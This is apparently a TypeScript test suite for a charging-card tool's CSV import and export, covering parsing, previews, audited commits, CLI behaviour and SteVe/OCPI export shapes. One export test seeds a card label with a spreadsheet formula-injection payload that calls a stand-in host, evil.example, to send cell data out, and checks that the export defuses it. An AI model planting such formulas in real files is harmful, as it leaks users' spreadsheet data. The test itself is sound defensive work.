// Card lists in and out through the api, on a real SQLite file: the preview judges every row and writes
// nothing, the commit writes all good rows or none, exports are safe to open in a spreadsheet.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { errorText } from '../../locales/translate.ts';
import { decodeCsvBytes } from '../../main/cards/csv-decode.ts';
import { CsvReader, type CsvRecord, detectDelimiter } from '../../main/cards/csv-read.ts';
import { endOfDay, localIso } from '../../main/cards/expiry-date.ts';
import type { ImportPreview } from '../../main/cards/types.ts';
import type { Core } from '../../main/core.ts';
import { wbc, wbcBin } from '../support/cli.ts';
import { callOk, callRaw, testCore } from '../support/core.ts';
import { tempDir } from '../support/temp.ts';

async function failure(core: Core, method: string, params: unknown) {
  const reply = await callRaw(core, method, params);
  assert.equal(reply.ok, false, `${method} should fail`);
  return reply.ok ? assert.fail() : reply.error;
}

function issuesOf(preview: ImportPreview, row: number): string[] {
  const found = preview.rows.find((r) => r.row === row);
  return (found?.issues ?? []).map((i) => errorText('en', i.code, i.params).message);
}

test('the reader gives the same rows however the text is cut into chunks', () => {
  const text =
    '\uFEFFuid;label;note\r\n04A1B2C3;"Müller; Hans";"line one\r\nline two"\r\n"04D5E6F7";"say ""hi""";\n\n0A0B0C0D;x;"ab"c\r1122AABB;;last';
  const read = (chunks: string[]) => {
    const records: CsvRecord[] = [];
    const reader = new CsvReader(';', (r) => records.push(r));
    for (const chunk of chunks) reader.push(chunk);
    reader.end();
    return records;
  };
  const whole = read([text]);
  assert.deepEqual(read([...text]), whole, 'one character at a time');
  assert.deepEqual(read([text.slice(0, 41), text.slice(41, 42), text.slice(42)]), whole);
  assert.deepEqual(
    whole.map((r) => [r.row, r.cells, r.textAfterQuote]),
    [
      [1, ['uid', 'label', 'note'], false],
      [2, ['04A1B2C3', 'Müller; Hans', 'line one\r\nline two'], false],
      [3, ['04D5E6F7', 'say "hi"', ''], false],
      [4, [''], false],
      [5, ['0A0B0C0D', 'x', 'abc'], true],
      [6, ['1122AABB', '', 'last'], false],
    ],
  );
  assert.equal(detectDelimiter('uid;label;group\n1,2;3'), ';');
  assert.equal(detectDelimiter('"a;b",label,group'), ',');
  assert.equal(detectDelimiter('uid\tlabel'), '\t');
  assert.equal(detectDelimiter('sep=;\nuid,label'), ';');
  assert.equal(detectDelimiter('uid'), ',');
});

test('files as Excel saves them are decoded: UTF-8 with BOM, Windows-1252, UTF-16; binary is refused', () => {
  const cp1252 = Uint8Array.from([
    0x75, 0x69, 0x64, 0x3b, 0x6e, 0x61, 0x6d, 0x65, 0x0a, 0x31, 0x3b, 0x4d, 0xfc, 0x6c,
  ]);
  assert.deepEqual(decodeCsvBytes(cp1252), { text: 'uid;name\n1;Mül', encoding: 'windows-1252' });
  const utf8 = Buffer.from('\uFEFFuid;name\n1;Mül', 'utf8');
  assert.deepEqual(decodeCsvBytes(utf8), { text: 'uid;name\n1;Mül', encoding: 'utf-8' });
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('uid\tname\n', 'utf16le')]);
  assert.deepEqual(decodeCsvBytes(utf16), { text: 'uid\tname\n', encoding: 'utf-16le' });
  assert.throws(() => decodeCsvBytes(Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x14])), {
    code: 'CARDS_CSV_NOT_TEXT',
  });
});

test('a preview judges every row with its reason and writes nothing; the commit writes the good rows, audited once', async (t) => {
  const core = testCore(t);
  const staff = await callOk(core, 'groups.create', { name: 'Staff' });
  const enrolled = await callOk(core, 'cards.enroll', {
    uid: '0A0B0C0D',
    notation: 'hex',
    label: 'Pool car',
  });
  const csv = [
    'Karten-ID;Bezeichnung;Besitzer;Gruppe;Gültig bis;Kostenstelle',
    '04 A1 B2 C3;"Müller; Hans";Hans Müller;Staff;31.12.2030;4711',
    '04a1b2c3;Copy;;Staff;;',
    'ZZ-12;Bad;;;;',
    '0A0B0C0D;Again;;;;',
    '1122AABB;Visitor;;Visitors;;',
    '04D5E6F7;Late;;STAFF;30.02.2030;',
    '04112233445566778899;Long;;;;',
    '1234567;Short digits;;;;',
    '04D5E6F8;Old;;;2001-01-01;',
    '04D5E6F9;Extra cell;;;;;;',
    '',
    '88A1B2C3;Cascade;;;;',
  ].join('\r\n');
  const preview = await callOk(core, 'cards.importPreview', {
    csv,
    defaults: { format: 'hex-msb-upper-colon' },
  });
  assert.equal(preview.delimiter, ';');
  assert.deepEqual(preview.columns, {
    found: ['uid', 'label', 'owner', 'group', 'validUntil'],
    mapping: [
      { field: 'uid', header: 'Karten-ID' },
      { field: 'label', header: 'Bezeichnung' },
      { field: 'owner', header: 'Besitzer' },
      { field: 'group', header: 'Gruppe' },
      { field: 'validUntil', header: 'Gültig bis' },
    ],
    ignored: ['Kostenstelle'],
  });
  assert.deepEqual(preview.counts, {
    rows: 11,
    ok: 5,
    warnings: 3,
    errors: 6,
    blank: 1,
    updates: 1,
    unchanged: 0,
  });
  assert.deepEqual(issuesOf(preview, 2), []);
  assert.deepEqual(issuesOf(preview, 3), ['The card 04A1B2C3 is in the file twice: first in row 2.']);
  assert.deepEqual(issuesOf(preview, 4), [
    '"ZZ-12" cannot be enrolled: "Z" is neither a hex digit nor a separator.',
  ]);
  // A known card is updated from its row, the change shown; empty cells keep what it has.
  assert.deepEqual(issuesOf(preview, 5), []);
  assert.deepEqual(preview.rows.find((r) => r.row === 5)?.changes, [
    { field: 'label', before: 'Pool car', after: 'Again' },
  ]);
  assert.deepEqual(issuesOf(preview, 6), ['There is no group "Visitors".']);
  assert.deepEqual(issuesOf(preview, 7), ['"30.02.2030" is not a date the tool can read.']);
  assert.deepEqual(issuesOf(preview, 8), [
    '04112233445566778899 becomes the idTag "04:11:22:33:44:55:66:77:88:99" of 29 characters; an OCPP 1.6 box takes at most 20.',
  ]);
  assert.match(issuesOf(preview, 9)[0] ?? '', /7 digits are too short for a card UID/);
  assert.match(issuesOf(preview, 10)[0] ?? '', new RegExp(`expired on ${endOfDay(2001, 1, 1)}`));
  assert.deepEqual(issuesOf(preview, 11), ['This row has 8 cells, the header 6.']);
  assert.match(issuesOf(preview, 13)[0] ?? '', /starts with 88, the marker of a longer UID/);
  assert.deepEqual(preview.unknownGroups, [{ name: 'Visitors', rows: 1 }]);
  // German, from the same codes.
  const german = (row: number) => {
    const found = preview.rows.find((r) => r.row === row)?.issues[0];
    return found ? errorText('de', found.code, found.params).message : '';
  };
  assert.equal(german(3), 'Die Karte 04A1B2C3 steht zweimal in der Datei: zuerst in Zeile 2.');
  assert.match(german(4), /ZZ-12.*weder eine Hex-Ziffer noch ein Trennzeichen/);
  assert.deepEqual(
    (await callOk(core, 'cards.list', {})).map((c) => c.id),
    [enrolled.card.id],
    'the preview wrote nothing',
  );

  const result = await callOk(core, 'cards.importCommit', { token: preview.token });
  assert.deepEqual(
    {
      imported: result.imported,
      updated: result.updated,
      skipped: result.skipped,
      created: result.groupsCreated,
    },
    { imported: 4, updated: 1, skipped: 6, created: [] },
  );
  const cards = await callOk(core, 'cards.list', {});
  const hans = cards.find((c) => c.uidHex === '04A1B2C3');
  assert.deepEqual(
    [hans?.label, hans?.owner, hans?.groupId, hans?.validUntil, hans?.source],
    ['Müller; Hans', 'Hans Müller', staff.id, endOfDay(2030, 12, 31), 'import'],
  );
  assert.deepEqual(cards.map((c) => c.uidHex).sort(), [
    '04112233445566778899',
    '04A1B2C3',
    '04D5E6F8',
    '0A0B0C0D',
    '88A1B2C3',
  ]);
  const audit = await callOk(core, 'audit.list', { entity: 'card', limit: 10 });
  const imports = audit.filter((e) => e.action === 'cards.import');
  assert.equal(imports.length, 1);
  assert.deepEqual(
    {
      imported: (imports[0]?.after as { imported?: number } | undefined)?.imported,
      sha: (imports[0]?.after as { sha256?: string } | undefined)?.sha256,
    },
    { imported: 4, sha: preview.sha256 },
  );
  assert.equal(imports[0]?.entityId, `${result.firstId}-${result.lastId}`);
  const again = await failure(core, 'cards.importCommit', { token: preview.token });
  assert.equal(again.code, 'CARDS_IMPORT_EXPIRED', 'a preview is used once');
});

test('missing groups are created with the cards when asked, and the group of the call fills empty cells', async (t) => {
  const core = testCore(t);
  const staff = await callOk(core, 'groups.create', { name: 'Staff' });
  await callOk(core, 'groups.create', { name: 'Taken', groupIdTag: 'NEW-DRIVERS' });
  const csv = 'uid,group\n04A1B2C3,New drivers\n04D5E6F7,\n0A0B0C0D,new DRIVERS\n';
  const preview = await callOk(core, 'cards.importPreview', { csv, groupId: staff.id, createGroups: true });
  assert.deepEqual(preview.counts, {
    rows: 3,
    ok: 3,
    warnings: 0,
    errors: 0,
    blank: 0,
    updates: 0,
    unchanged: 0,
  });
  assert.deepEqual(preview.groupsToCreate, ['New drivers']);
  assert.deepEqual(
    (await callOk(core, 'groups.list', {})).map((g) => g.name),
    ['Staff', 'Taken'],
    'not before the commit',
  );
  const result = await callOk(core, 'cards.importCommit', { token: preview.token, sha256: preview.sha256 });
  assert.deepEqual(result.groupsCreated, ['New drivers']);
  const created = (await callOk(core, 'groups.list', {})).find((g) => g.name === 'New drivers');
  assert.equal(created?.groupIdTag, 'NEW-DRIVERS-2', 'its default tag was taken, so it is numbered');
  assert.equal(created?.cardCount, 2);
  assert.equal((await callOk(core, 'cards.list', { groupId: staff.id })).length, 1);
});

test('a stale preview is refused: cards enrolled since, or the file changed', async (t) => {
  const core = testCore(t);
  const csv = 'uid\n04A1B2C3\n04D5E6F7\n';
  const first = await callOk(core, 'cards.importPreview', { csv });
  await callOk(core, 'cards.enroll', { uid: '04D5E6F7', notation: 'hex' });
  const stale = await failure(core, 'cards.importCommit', { token: first.token });
  assert.equal(stale.code, 'CARDS_IMPORT_STALE');
  assert.equal(
    stale.message,
    'Nothing was imported: cards or groups changed after the preview (an enrollment or another import).',
  );
  assert.equal((await callOk(core, 'cards.list', {})).length, 1, 'all or nothing');

  const second = await callOk(core, 'cards.importPreview', { csv });
  assert.deepEqual([second.counts.ok, second.counts.unchanged], [2, 1]);
  const changed = await failure(core, 'cards.importCommit', { token: second.token, sha256: 'ab'.repeat(32) });
  assert.equal(changed.message, 'Nothing was imported: the file changed after the preview.');
  const nothing = await callOk(core, 'cards.importPreview', { csv: 'uid\n04D5E6F7\n' });
  assert.equal(
    (await failure(core, 'cards.importCommit', { token: nothing.token })).code,
    'CARDS_IMPORT_NOTHING',
  );
});

test('files that are no card list are refused with a typed error and nothing is written', async (t) => {
  const core = testCore(t);
  const refused = async (csv: string) => (await failure(core, 'cards.importPreview', { csv })).code;
  assert.equal(await refused(''), 'CARDS_CSV_EMPTY');
  assert.equal(await refused('\uFEFF\r\n\r\n'), 'CARDS_CSV_EMPTY');
  assert.equal(await refused('uid;label\r\n'), 'CARDS_CSV_EMPTY');
  assert.equal(await refused('PK\u0003\u0004\u0000\u0000binary'), 'CARDS_CSV_NOT_TEXT');
  assert.equal(await refused('label,owner\nAnna,Fleet\n'), 'CARDS_CSV_NO_UID_COLUMN');
  assert.equal(await refused('uid,idTag\n04A1B2C3,04A1B2C3\n'), 'CARDS_CSV_HEADER_DUPLICATE');
  const unclosed = await failure(core, 'cards.importPreview', {
    csv: 'uid,label\n04A1B2C3,ok\n04D5E6F7,"never closed\n0A0B0C0D,lost\n',
  });
  assert.equal(unclosed.code, 'CARDS_CSV_UNCLOSED_QUOTE');
  assert.equal(unclosed.params.row, 3);
  const big = `uid\n${'04A1B2C3\n'.repeat(Math.ceil((50 * 1024 * 1024) / 9) + 1)}`;
  const tooLarge = await failure(core, 'cards.importPreview', { csv: big });
  assert.equal(tooLarge.code, 'CARDS_CSV_TOO_LARGE');
  assert.match(tooLarge.message, /the import takes at most 50\.0 MB/);
  assert.equal((await callOk(core, 'cards.list', {})).length, 0);
});

test('exports: plain re-imports to the same cards, a formula label is defused, SteVe and OCPI shapes', async (t) => {
  const core = testCore(t);
  const staff = await callOk(core, 'groups.create', { name: 'Staff' });
  await callOk(core, 'cards.enroll', {
    uid: '04A1B2C3',
    notation: 'hex',
    groupId: staff.id,
    label: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    owner: '@Anna',
    validUntil: '2030-12-31T23:59:59.000Z',
  });
  await callOk(core, 'cards.enroll', { uid: '04112233445566', notation: 'hex', label: 'Pool; car' });
  await callOk(core, 'cards.enroll', {
    uid: '0A0B0C0D',
    notation: 'hex',
    groupId: staff.id,
    label: '+49 170',
    validUntil: '2001-01-01T00:00:00.000Z',
  });

  const plain = await callOk(core, 'cards.export', { shape: 'plain' });
  assert.equal(plain.mime, 'text/csv');
  assert.match(plain.filename, /^cards-all-plain-\d{4}-\d{2}-\d{2}\.csv$/);
  const lines = plain.content.replace(/^\uFEFF/, '').split('\r\n');
  assert.equal(lines[0], 'uid,label,owner,group,valid_until');
  assert.equal(
    lines[1],
    `04A1B2C3,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","'@Anna",Staff,${localIso('2030-12-31T23:59:59.000Z')}`,
  );
  assert.equal(lines[2], '04112233445566,"Pool; car",,,', 'quoted: German Excel splits at semicolons');
  assert.equal(lines[3]?.split(',')[1], `"'+49 170"`);

  const other = testCore(t);
  await callOk(other, 'groups.create', { name: 'Staff' });
  const preview = await callOk(other, 'cards.importPreview', { csv: plain.content });
  assert.deepEqual([preview.counts.ok, preview.counts.errors], [3, 0]);
  await callOk(other, 'cards.importCommit', { token: preview.token });
  const strip = (cards: Array<{ uidHex: string; owner: string | null; validUntil: string | null }>) =>
    cards.map((c) => [c.uidHex, c.owner, c.validUntil]).sort();
  assert.deepEqual(strip(await callOk(other, 'cards.list', {})), [
    ['04112233445566', null, null],
    ['04A1B2C3', "'@Anna", '2030-12-31T23:59:59.000Z'],
    ['0A0B0C0D', null, '2001-01-01T00:00:00.000Z'],
  ]);

  const steve = await callOk(core, 'cards.export', { shape: 'steve', groupId: staff.id, delimiter: ';' });
  assert.match(steve.filename, /^cards-staff-steve-/);
  assert.deepEqual(steve.content.split('\r\n').slice(0, 3), [
    'idTag;parentIdTag;expiryDate;maxActiveTransactionCount;note',
    'STAFF;;;1;group Staff',
    `04A1B2C3;STAFF;2030-12-31T23:59:59.000Z;1;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"") / @Anna"`,
  ]);

  const decimal = await callOk(core, 'cards.export', {
    shape: 'plain',
    format: 'decimal-lsb-10',
    groupId: staff.id,
  });
  assert.match(decimal.content, /\r\n3283263748,/, '04A1B2C3 as a keyboard-wedge reader types it');

  const party = await failure(core, 'cards.export', { shape: 'ocpi', countryCode: 'D' });
  assert.equal(party.code, 'CARDS_EXPORT_PARTY');
  const ocpi = await callOk(core, 'cards.export', { shape: 'ocpi', countryCode: 'de', partyId: 'abc' });
  assert.equal(ocpi.mime, 'application/x-ndjson');
  const tokens = ocpi.content
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>);
  assert.equal(tokens.length, 3);
  assert.deepEqual(
    { ...tokens[0], last_updated: undefined },
    {
      country_code: 'DE',
      party_id: 'ABC',
      uid: '04A1B2C3',
      type: 'RFID',
      contract_id: 'DE-ABC-C04A1B2C3',
      visual_number: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      issuer: 'DE-ABC',
      group_id: 'STAFF',
      valid: true,
      whitelist: 'ALLOWED_OFFLINE',
      last_updated: undefined,
    },
  );
  assert.equal(tokens[2]?.valid, false, 'an expired card is not valid');
  assert.match(String(tokens[0]?.last_updated), /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
});

test('wbc cards import shows the preview and writes only with --yes; wbc cards export writes the file', async (t) => {
  const dir = tempDir(t);
  const file = join(dir, 'cards.csv');
  // As German Excel saves it: Windows-1252, semicolons, CRLF.
  writeFileSync(file, Buffer.from('UID;Name;Gruppe\r\n04A1B2C3;M\xfcller;Staff\r\nZZ;Bad;\r\n', 'latin1'));
  const data = ['--data-dir', join(dir, 'data')];
  assert.equal((await wbc([...data, 'groups', 'add', 'Staff'])).code, 0);

  const refused = await wbc([...data, 'cards', 'import', file, '--lang', 'en']);
  assert.equal(refused.code, 1, refused.stderr);
  assert.match(refused.stdout, /2 rows: 1 can be imported \(0 with a warning\), 1 with errors, 0 blank\./);
  assert.match(
    refused.stdout,
    /row 3: "ZZ" cannot be enrolled: "Z" is neither a hex digit nor a separator\./,
  );
  assert.match(refused.stderr, /CARDS_IMPORT_NOT_CONFIRMED/);

  const done = await wbc([...data, 'cards', 'import', file, '--yes', '--lang', 'de']);
  // The good row is imported, the refused one is not: the import says so in its exit code.
  assert.equal(done.code, 1, done.stderr);
  assert.match(done.stdout, /1 Karten importiert \(1 Zeilen übersprungen\)\./);
  assert.match(done.stderr, /1 Zeilen der Datei wurden abgelehnt/);

  const out = join(dir, 'steve.csv');
  const exported = await wbc([
    ...data,
    'cards',
    'export',
    '--shape',
    'steve',
    '--group',
    'staff',
    '--out',
    out,
  ]);
  assert.equal(exported.code, 0, exported.stderr);
  assert.equal(
    readFileSync(out, 'utf8'),
    'idTag,parentIdTag,expiryDate,maxActiveTransactionCount,note\r\nSTAFF,,,1,group Staff\r\n04A1B2C3,STAFF,,1,Müller\r\n',
  );
  const ocpi = await wbc([...data, 'cards', 'export', '--shape', 'ocpi']);
  assert.equal(ocpi.code, 1);
  assert.match(ocpi.stderr, /CARDS_EXPORT_PARTY/);
});

test('re-importing an updated list updates the known cards (validity, label, owner, group) in one commit, each audited with before and after', async (t) => {
  const core = testCore(t);
  const staff = await callOk(core, 'groups.create', { name: 'Staff' });
  await callOk(core, 'groups.create', { name: 'Visitors' });
  const first = await callOk(core, 'cards.importPreview', {
    csv: 'uid;Name;Label;Gruppe;valid until\n04A1B2C3;Anna Berg;A-1;Staff;2027-06-30\n04D5E6F7;Ben Cole;B-2;Staff;\n',
  });
  // "Name" names a person: the owner. The label is what is printed on the card.
  assert.deepEqual(
    first.columns.mapping.map((m) => `${m.field}=${m.header}`),
    ['uid=uid', 'owner=Name', 'label=Label', 'group=Gruppe', 'validUntil=valid until'],
  );
  await callOk(core, 'cards.importCommit', { token: first.token });

  const updated = await callOk(core, 'cards.importPreview', {
    csv: 'uid;Name;Label;Gruppe;valid until\n04A1B2C3;Anna Berg-Meier;A-1;Visitors;31.12.2027\n04D5E6F7;Ben Cole;B-2;Staff;\n0A0B0C0D;Cem Demir;C-3;Staff;\n',
  });
  assert.deepEqual(
    [updated.counts.ok, updated.counts.updates, updated.counts.unchanged, updated.counts.errors],
    [3, 1, 1, 0],
    'known cards are no errors: one changes, one stays as it is, one is new',
  );
  assert.deepEqual(updated.rows.find((r) => r.row === 2)?.changes, [
    { field: 'owner', before: 'Anna Berg', after: 'Anna Berg-Meier' },
    { field: 'group', before: 'Staff', after: 'Visitors' },
    { field: 'validUntil', before: endOfDay(2027, 6, 30), after: endOfDay(2027, 12, 31) },
  ]);
  assert.deepEqual(updated.rows.find((r) => r.row === 3)?.changes, []);
  assert.equal((await callOk(core, 'cards.list', {})).length, 2, 'the preview wrote nothing');

  const result = await callOk(core, 'cards.importCommit', { token: updated.token });
  assert.deepEqual([result.imported, result.updated, result.skipped], [1, 1, 0]);
  const cards = await callOk(core, 'cards.list', {});
  const anna = cards.find((c) => c.uidHex === '04A1B2C3');
  const visitors = (await callOk(core, 'groups.list', {})).find((g) => g.name === 'Visitors');
  assert.deepEqual(
    [anna?.owner, anna?.label, anna?.groupId, anna?.validUntil],
    ['Anna Berg-Meier', 'A-1', visitors?.id, endOfDay(2027, 12, 31)],
  );
  assert.equal(cards.find((c) => c.uidHex === '04D5E6F7')?.groupId, staff.id);
  const audit = await callOk(core, 'audit.list', { entity: 'card', limit: 20 });
  const updates = audit.filter((e) => e.action === 'card.update');
  assert.equal(updates.length, 1);
  assert.equal((updates[0]?.before as { owner?: string } | undefined)?.owner, 'Anna Berg');
  assert.equal((updates[0]?.after as { owner?: string } | undefined)?.owner, 'Anna Berg-Meier');

  // The label goes to OCPI as the card's visual number, the owner does not.
  const ocpi = await callOk(core, 'cards.export', { shape: 'ocpi', countryCode: 'DE', partyId: 'ABC' });
  const token = ocpi.content
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>)
    .find((x) => x.uid === '04A1B2C3');
  assert.equal(token?.visual_number, 'A-1');
});

test('wbc cards import: the preview names the columns read and ignored and the changes; a missing file is "file not found"', async (t) => {
  const dir = tempDir(t);
  const data = ['--data-dir', join(dir, 'data')];
  assert.equal((await wbc([...data, 'groups', 'add', 'Staff'])).code, 0);
  const file = join(dir, 'cards.csv');
  writeFileSync(file, 'UID;Name;Gruppe;Kostenstelle\n04A1B2C3;Anna Berg;Staff;4711\n');
  assert.equal((await wbc([...data, 'cards', 'import', file, '--yes'])).code, 0);
  writeFileSync(file, 'UID;Name;Gruppe;Kostenstelle\n04A1B2C3;Anna Meier;Neu;4711\n');
  const preview = await wbc([...data, 'cards', 'import', file, '--create-groups']);
  assert.equal(preview.code, 1, preview.stderr);
  assert.match(preview.stdout, /Columns read: UID ← "UID", owner ← "Name", group ← "Gruppe"/);
  assert.match(preview.stdout, /Columns ignored: "Kostenstelle"/);
  assert.match(preview.stdout, /1 known cards will be updated, 0 are unchanged/);
  assert.match(preview.stdout, /row 2: 04A1B2C3 owner: Anna Berg → Anna Meier; group: Staff → Neu/);
  // Not confirmed: nothing was created, and the preview does not say it was.
  assert.match(preview.stdout, /To be created when you confirm the import: Neu/);
  assert.doesNotMatch(preview.stdout, /^Created/m);
  assert.match(preview.stderr, /CARDS_IMPORT_NOT_CONFIRMED/);

  const confirmed = await wbc([...data, 'cards', 'import', file, '--create-groups', '--yes']);
  assert.equal(confirmed.code, 0, confirmed.stderr);
  assert.match(confirmed.stdout, /1 known cards updated\./);
  const listed = await wbc([...data, '--json', 'cards', 'list', '--group', 'Neu']);
  assert.equal(listed.code, 0, listed.stderr);
  assert.deepEqual(
    (JSON.parse(listed.stdout) as Array<{ uidHex: string; owner: string }>).map((c) => [c.uidHex, c.owner]),
    [['04A1B2C3', 'Anna Meier']],
  );

  const missing = await wbc([...data, 'cards', 'import', join(dir, 'nope.csv')]);
  assert.equal(missing.code, 1);
  assert.match(missing.stderr, /File not found: .*nope\.csv/);
  assert.match(missing.stderr, /CARDS_FILE_NOT_FOUND/);
  assert.doesNotMatch(missing.stderr, /BAD_REQUEST/);
});

test('"31.12.2027" in a file and --valid-until 2027-12-31 store the same instant: the end of that day in the local time zone', async (t) => {
  const dir = tempDir(t);
  const data = ['--data-dir', join(dir, 'data')];
  const env = { TZ: 'Europe/Berlin' };
  assert.equal((await wbc([...data, 'groups', 'add', 'Staff'])).code, 0);
  const file = join(dir, 'cards.csv');
  writeFileSync(file, 'uid;Gültig bis\n04A1B2C3;31.12.2027\n');
  const imported = await wbc([...data, 'cards', 'import', file, '--yes', '--group', 'Staff'], env);
  assert.equal(imported.code, 0, imported.stderr);
  assert.match(imported.stdout, /A date means the end of that day \(23:59:59\) in Europe\/Berlin\./);
  const enrolled = await new Promise<string>((resolve, reject) => {
    const child = spawn(
      process.execPath,
      [wbcBin, ...data, 'cards', 'enroll', '--group', 'Staff', '--valid-until', '2027-12-31'],
      { env: { ...process.env, LANG: 'C.UTF-8', TZ: 'Europe/Berlin' } },
    );
    let err = '';
    child.stderr.on('data', (c) => {
      err += c;
    });
    child.on('error', reject);
    child.on('close', (code) => (code === 0 ? resolve(err) : reject(new Error(`exit ${code}: ${err}`))));
    child.stdin.end('04D5E6F7\n');
  });
  assert.match(enrolled, /A date means the end of that day \(23:59:59\) in Europe\/Berlin\./);
  const listed = await wbc([...data, '--json', 'cards', 'list'], env);
  const cards = JSON.parse(listed.stdout) as Array<{ uidHex: string; validUntil: string }>;
  // The export states the day in the local zone, with its offset (the same instant for other tools).
  const exported = await wbc([...data, 'cards', 'export'], env);
  assert.match(exported.stdout, /^04A1B2C3,,,Staff,2027-12-31T23:59:59\+01:00\r?$/m);
  assert.deepEqual(cards.map((c) => [c.uidHex, c.validUntil]).sort(), [
    ['04A1B2C3', '2027-12-31T22:59:59.000Z'],
    ['04D5E6F7', '2027-12-31T22:59:59.000Z'],
  ]);
});
